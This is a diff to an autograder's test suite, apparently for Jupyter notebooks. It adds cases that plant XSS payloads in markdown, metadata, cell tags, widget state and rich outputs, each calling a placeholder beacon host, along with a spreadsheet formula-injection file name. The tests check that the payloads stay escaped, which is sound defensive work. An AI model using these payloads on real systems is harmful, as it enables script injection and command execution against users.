@@ -301,6 +301,70 @@ except OSError:
 '''
 
 
+# ---------------------------------------------------------------------------- script for the reader
+# Student content that would run as script where a person opens it (formgrader, the feedback):
+# each payload records its kind in window.xssRan and requests BEACON/<kind> (tests/test_inert.py
+# replaces BEACON by a listener of its own; here it stays a name that does not resolve).
+BEACON = "http://beacon.invalid"
+
+
+def js(kind):
+    """Script (no double quotes: usable in an attribute) that records ``kind`` and calls home."""
+    return (f"(window.xssRan=window.xssRan||[]).push('{kind}');"
+            f"fetch('{BEACON}/{kind}',{{mode:'no-cors'}})")
+
+
+SCRIPT_MARKDOWN = f"""My answer: w2 stays where it is <script>{js("md-script")}</script>
+<img src=x onerror="{js('md-img')}"> <svg onload="{js('md-svg')}"></svg>
+<iframe src="javascript:{js('md-iframe')}"></iframe> <details open ontoggle="{js('md-details')}">
+<summary>more</summary></details> <style>@import url({BEACON}/md-style);</style>
+<object data="{BEACON}/md-object"></object>
+<form action="{BEACON}/md-form"><button>x</button></form>
+
+![pixel]({BEACON}/md-pixel) [a link](javascript:{js("md-link")})
+"""
+SCRIPT_OUTPUTS = f"""
+from IPython.display import HTML, Javascript, display
+display(HTML('''<img src=x onerror="{js('html-img')}"><script>{js('html-script')}</script>'''))
+display(Javascript('''{js('javascript')}'''))
+display({{"image/svg+xml": '''<svg xmlns="http://www.w3.org/2000/svg"><script>{js('svg')}</script>
+<image href="{BEACON}/svg-image"/></svg>''', "text/plain": "svg"}}, raw=True)
+display({{"text/markdown": '''<img src=x onerror="{js('markdown-output')}">''',
+         "text/plain": "markdown"}}, raw=True)
+display({{"text/latex": '''$x$</div><script>{js('latex')}</script>''', "text/plain": "latex"}},
+        raw=True)
+display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "w1", "version_major": 2,
+          "version_minor": 0}}, "text/plain": "widget"}}, raw=True)
+display({{"text/html": '''<img src="{BEACON}/html-pixel"><a href="javascript:{js('html-link')}">
+link</a>''', "text/plain": "pixel"}}, raw=True)
+display({{"image/png": "iVBORw0KGgo=", "text/plain": "png"}}, raw=True,
+        metadata={{"filenames": {{"image/png": "{BEACON}/png-file"}}}})
+"""
+
+
+def _script_cells(nb):
+    """A raw HTML cell, hostile cell tags and widget state beside the markdown payload."""
+    i, _ = _cell(nb, "u1_dead_explain")
+    nb["cells"].insert(i, {"cell_type": "raw", "id": "raw-html", "source":
+                           f"<script>{js('raw')}</script>",
+                           "metadata": {"format": "text/html", "raw_mimetype": "text/html"}})
+    nb["cells"][i + 1]["metadata"]["tags"] = [  # no comma: nbformat's rule for a tag
+        '"><img src=x onerror="(window.xssRan=window.xssRan||[]).push(`tag`)">']
+    nb["cells"][i + 1]["source"] = SCRIPT_MARKDOWN
+    nb["metadata"]["title"] = f"</title><script>{js('title')}</script>"
+    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
+        "version_major": 2, "version_minor": 0, "state": {"w1": {
+            "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
+            "model_module_version": "2.0.0", "state": {
+                "value": f'<img src=x onerror="{js("widget")}">'}}}}}
+
+
+#: live markup of the payloads: never in a feedback file (their text, escaped, is)
+LIVE = ("<script>(window.xssRan", "<img src=x onerror", f'<img src="{BEACON}', "<svg", "<iframe",
+        '<a href="javascript:', 'ontoggle="', "<object", "<form action", "<style>@import",
+        "var element = $(", "widget-state+json")
+
+
 # ---------------------------------------------------------------------------- the cases
 @dataclass
 class Case:
@@ -479,6 +543,13 @@ CASES = [
          before={"u1_dz_dw2": ANSWER_FILES}, feedback=("ANSWER-FILES: 0 DIRS: True",)),
     Case("iso_network", "connects to the internet (to fetch the answer key)",
          score=(FULL, FULL), before={"u1_dz_dw2": NETWORK}, feedback=("NETWORK: blocked",)),
+    # -- script for the reader: graded as usual, nothing of it runs where a person opens it
+    Case("script_markdown", "the written answer, a raw cell, cell tags and the notebook's "
+         "metadata carry script and event handlers", mutate=_script_cells, score=(FULL, FULL),
+         feedback=("My answer: w2 stays", "&lt;script&gt;"), not_in_feedback=LIVE),
+    Case("script_outputs", "an answer cell displays HTML, JavaScript, SVG, markdown, LaTeX and a "
+         "widget view carrying script", score=(FULL, FULL),
+         before={"u1_dz_dw2": SCRIPT_OUTPUTS}, not_in_feedback=LIVE),
     # -- broken files: rejected with a reason (rest of the class graded)
     Case("bad_json", "not JSON", raw=lambda b: b[: len(b) // 2], rejected="invalid JSON"),
     Case("bad_json_bomb", "deeply nested JSON", raw=lambda b: b"[" * 100_000 + b"]" * 100_000,
@@ -490,6 +561,8 @@ CASES = [
          rejected="not UTF-8"),
     Case("bad_renamed", "notebook renamed", notebook_name="my_solution",
          rejected="unknown notebook name"),
+    Case("bad_formula_name", "a file named like a spreadsheet formula (rejected.csv neutralises "
+         "it)", notebook_name="=1+41+cmd|' -C calc'!A0", rejected="unknown notebook name"),
     Case("bad_missing", "no notebook, only a text file", files={"answers.txt": b"42"},
          notebook_name="", rejected="not a notebook"),
     Case("bad_extra_file", "an extra file next to the notebook", score=(FULL, FULL),
